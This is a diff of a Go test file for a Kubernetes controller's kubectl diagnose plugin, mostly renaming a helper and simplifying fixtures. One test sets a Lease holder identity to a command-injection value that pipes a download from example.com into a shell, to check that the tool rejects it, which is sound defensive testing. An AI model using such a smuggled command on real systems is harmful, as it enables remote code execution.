@@ -2,6 +2,7 @@ package main
 
 import (
 	"fmt"
+	"reflect"
 	"slices"
 	"strings"
 	"sync/atomic"
@@ -16,6 +17,7 @@ import (
 	clienttesting "k8s.io/client-go/testing"
 
 	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
+	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
 	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
 )
 
@@ -71,7 +73,7 @@ func TestLease(t *testing.T) {
 			if c.react != nil {
 				f.kube.PrependReactor("list", "leases", c.react)
 			}
-			got := f.cluster("default").controller(t.Context())
+			got := f.cluster("default").readController(t.Context())
 			if got.Namespace != c.known || got.Stopped != c.stopped || (c.known != "") != (got.Name == leaseName) {
 				t.Errorf("got %+v", got)
 			}
@@ -84,7 +86,7 @@ func TestLeaseHolder(t *testing.T) {
 	t.Parallel()
 	hostile := lease("ops", -time.Minute)
 	hostile.Spec.HolderIdentity = new("x; curl example.com | sh_0815")
-	if got := newFixture(t, hostile).cluster("default").controller(t.Context()); got.Holder != "POD" {
+	if got := newFixture(t, hostile).cluster("default").readController(t.Context()); got.Holder != "POD" {
 		t.Errorf("got %+v", got)
 	}
 }
@@ -111,7 +113,7 @@ func TestWatched(t *testing.T) {
 		"all":               {[]runtime.Object{watching(diagnose.UsualNamespace, "")}, []string{""}},
 		"an older one":      {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), lease("b", 0)}, []string{"", "a"}},
 	} {
-		got := newFixture(t, c.leases...).cluster("default").controller(t.Context())
+		got := newFixture(t, c.leases...).cluster("default").readController(t.Context())
 		if !slices.Equal(got.Namespaces, c.want) {
 			t.Errorf("%s: %q, want %q", name, got.Namespaces, c.want)
 		}
@@ -137,7 +139,7 @@ func TestUnguarded(t *testing.T) {
 func TestLookAround(t *testing.T) {
 	t.Parallel()
 	template := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "x"}}}
-	elsewhere := pod("a", "n1", true)
+	elsewhere := objects.Pod("a", "n1")
 	elsewhere.Namespace = "another"
 	f := newFixture(t, elsewhere,
 		&appsv1.DaemonSet{ObjectMeta: meta("agent"), Spec: appsv1.DaemonSetSpec{Template: template}},
@@ -180,18 +182,15 @@ func TestControllerStops(t *testing.T) {
 // TestControllerWatched: a watch reports that the controller has stopped, and that it runs again, of all LocalServices.
 // That its Lease is renewed changes nothing.
 func TestControllerWatched(t *testing.T) {
-	o := newFixture(t).cluster("default").newObjects(nil, all())
+	o := newFixture(t).read(t)
 	o.follows = true
-	if err := o.localServices.GetIndexer().Add(localService("demo", "")); err != nil {
-		t.Fatal(err)
-	}
-	before := o.snapshot(t.Context(), true).lists
+	before := o.snapshot(t.Context()).lists
 	for i, stopped := range []bool{false, true, false} {
 		o.controller = diagnose.Controller{Namespace: "ops", Name: leaseName, Renewed: time.Unix(int64(i), 0),
 			Stopped: stopped}
-		s := o.snapshot(t.Context(), true)
+		s := o.snapshot(t.Context())
 		if (s.Controller != "") != stopped || (s.lists[0].Controller != "") != stopped ||
-			len(diagnose.Changes(before[0], s.lists[0], false)) > 0 {
+			!reflect.DeepEqual(before[0].Items, s.lists[0].Items) {
 			t.Errorf("%v: %+v", stopped, s)
 		}
 	}
